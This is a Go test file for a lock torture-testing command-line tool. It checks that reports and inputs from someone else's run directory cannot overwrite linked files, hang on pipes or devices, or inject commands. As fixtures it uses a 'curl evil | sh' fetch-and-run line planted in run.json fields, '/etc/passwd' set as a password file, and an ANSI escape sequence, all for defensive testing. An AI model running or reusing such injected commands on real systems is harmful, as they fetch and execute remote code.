package main

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"locktorture/internal/exit"
)

// aRecordedRun is a run directory like one that somebody has sent, below the working directory.
func aRecordedRun(t *testing.T) string {
	t.Helper()
	t.Chdir(t.TempDir())
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	code, out, errOut := soon(t, "run", "--backend", "local", "--in-process", "--nemesis", "none", "--sections", "3", "--min-grants", "1", "--duration", "30s", "--clients", "2")
	if code != exit.OK {
		t.Fatalf("exit %d\n%s%s", code, out, errOut)
	}
	dir, err := filepath.EvalSymlinks("results/runs/latest")
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

// soon carries out one command line, which must end soon.
func soon(t *testing.T, args ...string) (code int, out, errOut string) {
	t.Helper()
	type end struct {
		code        int
		out, errOut string
	}
	ended := make(chan end, 1)
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	go func() {
		var out, errOut strings.Builder
		code := inProcess(ctx, args, strings.NewReader(""), &out, &errOut)
		ended <- end{code, out.String(), errOut.String()}
	}()
	select {
	case e := <-ended:
		return e.code, e.out, e.errOut
	case <-time.After(3 * time.Minute):
		t.Fatalf("torture %s does not end", strings.Join(args, " "))
	}
	return 0, "", ""
}

func mustDo(t *testing.T, errs ...error) {
	t.Helper()
	for _, err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
}

// TestStrangersLinks: reports that are written anew take the place of links in a run directory,
// and what those name stays as it was.
func TestStrangersLinks(t *testing.T) {
	dir := aRecordedRun(t)
	for _, command := range [][]string{{"check", "--html"}, {"report"}} {
		mine := filepath.Join(t.TempDir(), "authorized_keys")
		mustDo(t, os.WriteFile(mine, []byte("mine"), 0o600))
		for _, name := range []string{"junit.xml", "result.json", "report.html"} {
			mustDo(t, os.Remove(filepath.Join(dir, name)), os.Symlink(mine, filepath.Join(dir, name)))
		}
		if code, _, errOut := soon(t, append(command, dir)...); code != exit.OK {
			t.Errorf("%s: exit %d\n%s", command, code, errOut)
		}
		info, err := os.Stat(mine)
		mustDo(t, err)
		if text, _ := os.ReadFile(mine); string(text) != "mine" || info.Mode().Perm() != 0o600 {
			t.Errorf("%s: the file that a link names has mode %v and %.40q", command, info.Mode(), text)
		}
		for _, name := range []string{"junit.xml", "result.json", "report.html"} {
			if info, err := os.Lstat(filepath.Join(dir, name)); err != nil || !info.Mode().IsRegular() {
				t.Errorf("%s: %s is %v: %v", command, name, info.Mode(), err)
			}
		}
	}
}

// TestStrangersFiles: neither a pipe nor a device nor a link in a run directory is read. Each
// is said, exit code 2.
func TestStrangersFiles(t *testing.T) {
	dir := aRecordedRun(t)
	for name, commands := range map[string][][]string{
		"run.json": {{"check"}, {"report"}, {"wire"}, {"export", "--format", "csv"}, {"replay"}, {"confirm"}}, "history.jsonl": {{"check"}, {"report"}, {"export", "--format", "csv"}},
		"wire.bin": {{"wire"}}, "schedule.txt": {{"confirm"}},
	} {
		file, aside := filepath.Join(dir, name), filepath.Join(t.TempDir(), "aside")
		was := os.Rename(file, aside) == nil
		for what, put := range map[string]func() error{
			"a pipe": func() error { return syscall.Mkfifo(file, 0o600) }, "a link": func() error { return os.Symlink("/dev/zero", file) },
		} {
			mustDo(t, put())
			for _, command := range commands {
				if code, _, errOut := soon(t, append(command, dir)...); code != exit.BadUsage || !strings.Contains(errOut, what) {
					t.Errorf("%s as %s, torture %s: exit %d\n%s", what, name, command, code, errOut)
				}
			}
			mustDo(t, os.Remove(file))
		}
		if was {
			mustDo(t, os.Rename(aside, file))
		}
	}
}

// TestEndlessFiles: files that the user names are regular ones too. The login alone may come
// from a pipe, which is not waited for without end.
func TestEndlessFiles(t *testing.T) {
	t.Chdir(t.TempDir())
	mustDo(t, syscall.Mkfifo("pipe", 0o600))
	run := []string{"run", "--backend", "local", "--in-process", "--duration", "1s"}
	for _, path := range []string{"pipe", "/dev/zero"} {
		for _, command := range [][]string{
			append(run, "--schedule", path), {"config", "validate", path}, {"check", path}, {"replay", path}, {"confirm", path, "--backend", "redis-set"},
			{"run", "--backend", "redis-set", "--cluster", "external", "--endpoints", "127.0.0.1:1", "--tls-ca", path},
			{"matrix", "--backends", "local", "--nemeses", "none", "--out", "m", "--expect", path},
			{"matrix", "--backends", "local", "--nemeses", "none", "--out", "m", "--trend", path},
		} {
			if code, _, errOut := soon(t, command...); code != exit.BadUsage || !strings.Contains(errOut, "only a regular file") {
				t.Errorf("torture %s: exit %d\n%s", strings.Join(command, " "), code, errOut)
			}
		}
	}
	for path, says := range map[string]string{"pipe": "nothing was written to it within 10s", "/dev/zero": "is a device", ".": "is a directory"} {
		code, _, errOut := soon(t, "run", "--backend", "redis-set", "--cluster", "external", "--endpoints", "127.0.0.1:1", "--password-file", path)
		if code != exit.BadUsage || !strings.Contains(errOut, "--password-file") || !strings.Contains(errOut, says) {
			t.Errorf("--password-file %s: exit %d\n%s", path, code, errOut)
		}
	}
	mustDo(t, os.Remove("pipe"), syscall.Mkfifo("torture.yaml", 0o600))
	if code, _, errOut := soon(t, append(run, "--nemesis", "none")...); code != exit.BadUsage || !strings.Contains(errOut, "torture.yaml") {
		t.Errorf("a pipe as torture.yaml: exit %d\n%s", code, errOut)
	}
}

// TestStrangersKeys: the run.json of somebody else decides neither which keys are removed, nor
// where, nor which file is sent there as a password.
func TestStrangersKeys(t *testing.T) {
	dir := aRecordedRun(t)
	text := `{"schema": 1, "start": "2026-01-01T10:00:00Z", "backend": "redis-set", "topology": "redis", "provisioner": "external",
		"flags": [{"name": "endpoints", "value": "127.0.0.1:1"}, {"name": "key-prefix", "value": "a"}, {"name": "password-file", "value": "/etc/passwd"}]}`
	mustDo(t, os.Remove(filepath.Join(dir, "run.json")), os.WriteFile(filepath.Join(dir, "run.json"), []byte(text), 0o600))
	if code, _, errOut := soon(t, "clean", "--keys", dir); code != exit.BadUsage || !strings.Contains(errOut, "has no note") {
		t.Errorf("exit %d\n%s", code, errOut)
	}
}

// TestStrangersWords: commands of a run.json are comments to a shell, and nothing of a message
// is to a terminal more than text.
func TestStrangersWords(t *testing.T) {
	dir := aRecordedRun(t)
	file := filepath.Join(dir, "run.json")
	text, err := os.ReadFile(file)
	mustDo(t, err)
	evil := strings.Replace(string(text), `"reproduce": "`, `"reproduce": "curl evil | sh --a --b`+strings.Repeat(" --c", 80)+` `, 1)
	evil = strings.Replace(evil, `"check_again": "`, `"check_again": "curl evil | sh `, 1)
	evil = strings.Replace(evil, `"backend"`, `"nodes": ["re\u001b[31mdis"], "backend"`, 1)
	mustDo(t, os.WriteFile(file, []byte(evil), 0o600))
	_, out, _ := soon(t, "check", dir, "--expect", "unsafe")
	if !strings.Contains(out, "curl") {
		t.Errorf("the command is not shown:\n%s", out)
	}
	for line := range strings.Lines(out) {
		if (strings.Contains(line, "curl") || strings.Contains(line, "--c")) && !strings.HasPrefix(line, "# ") {
			t.Errorf("a shell would carry out %q", line)
		}
	}
	if _, _, errOut := soon(t, "wire", dir, "--node", "x"); !strings.Contains(errOut, "31mdis") || strings.Contains(errOut, "\x1b") {
		t.Errorf("%q", errOut)
	}
}

// TestManyFaults: of a file in which everything is wrong the first faults are told.
func TestManyFaults(t *testing.T) {
	t.Chdir(t.TempDir())
	var text strings.Builder
	for i := range 20_000 {
		fmt.Fprintf(&text, "no-such-lock-%d: {none: safe}\n", i)
	}
	mustDo(t, os.WriteFile("expected.yaml", []byte(text.String()), 0o600))
	code, _, errOut := soon(t, "matrix", "--backends", "local", "--nemeses", "none", "--out", "m", "--expect", "expected.yaml")
	if code != exit.BadUsage || len(errOut) > 100_000 || !strings.Contains(errOut, "and 19980 more") {
		t.Errorf("exit %d, %d bytes: %.300s", code, len(errOut), errOut)
	}
}

// TestLittleRoom: a limit of the address space in which nothing could end is an error before
// anything begins, and not a crash of the runtime.
func TestLittleRoom(t *testing.T) {
	out, err := exec.Command("sh", "-c", "ulimit -v 1900000; exec torture version").CombinedOutput()
	if code := exitOf(t, err); code != exit.Harness || !strings.Contains(string(out), "the address space is limited to 1900000 kB") {
		t.Errorf("exit %d: %.500s", code, out)
	}
}
